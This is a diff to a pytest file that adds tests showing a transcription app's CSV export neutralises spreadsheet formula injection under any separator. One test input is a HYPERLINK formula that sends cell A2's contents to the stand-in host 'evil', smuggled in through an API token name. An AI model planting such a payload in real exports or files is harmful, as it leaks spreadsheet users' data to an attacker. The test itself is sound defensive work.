@@ -9,6 +9,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from accounts.services import api_token_create
 from tests.transcription.sessions import record_session
 from transcription.web import exports
 from transcription.web.exports import srt_timestamp
@@ -130,8 +131,48 @@ def test_csv_has_one_row_per_session_with_counts(two_sessions, api_token):
 def test_csv_defuses_formulas():
     assert exports._csv_cell("=1+1") == "'=1+1"
     assert exports._csv_cell("@SUM(A1)") == "'@SUM(A1)"
+    assert exports._csv_cell("\t=1") == "'\t'=1"
     assert exports._csv_cell("alice") == "alice"
     assert exports._csv_cell(None) == ""
+    assert exports._csv_cell(-1) == "-1"  # a number, not text
+
+
+HOSTILE = 'x;=HYPERLINK("http://evil/?"&A2,"x")'
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        (HOSTILE, 'x;\'=HYPERLINK("http://evil/?"&A2,"x")'),
+        ("a,+1|-2\t@x", "a,'+1|'-2\t'@x"),
+        ("a; =1", "a; '=1"),
+        ("a\n=1", "a\n'=1"),
+        ("a - b = c", "a - b = c"),  # no separator before them: text as it is
+    ],
+)
+def test_csv_defuses_a_formula_after_any_separator(text, expected):
+    assert exports._csv_cell(text) == expected
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
+def test_no_csv_cell_is_a_formula_whatever_the_separator(user, delimiter):
+    """Read as a spreadsheet of any locale would, splitting on its own separator
+    (quotes ignored, as one that does not expect them would), no cell starts a
+    formula."""
+    token, _ = api_token_create(user=user, name=HOSTILE)
+    record_session(user=user, token=token, finals=["hi"])
+    text = exports.export_csv(exports.sessions_for_export())
+    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
+        reader = csv.reader(
+            io.StringIO(text), delimiter=delimiter, quoting=quoting, escapechar="\\"
+        )
+        for row in reader:
+            for cell in row:
+                start = cell.lstrip(' "')[:1]
+                assert not start or start not in "=+-@", (delimiter, cell)
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert row["token_name"] == 'x;\'=HYPERLINK("http://evil/?"&A2,"x")'
+    assert text.splitlines()[1].startswith('"')  # every cell quoted
 
 
 def test_export_dispatches_every_format(two_sessions):
@@ -153,7 +194,7 @@ def test_json_includes_batches_and_replies_with_the_voice_loop(user, settings):
     ]
     assert data["batches"][1]["error"] == "connection refused"
     rows = exports.export_csv(exports.sessions_for_export(session_ids=[session.pk]))
-    assert rows.splitlines()[1].endswith(",2,1,2")  # finals, errors, batches
+    assert rows.splitlines()[1].endswith(',"2","1","2"')  # finals, errors, batches
 
 
 _SRT_TIME = re.compile(r"(\d{2,}):([0-5]\d):([0-5]\d),(\d{3})")
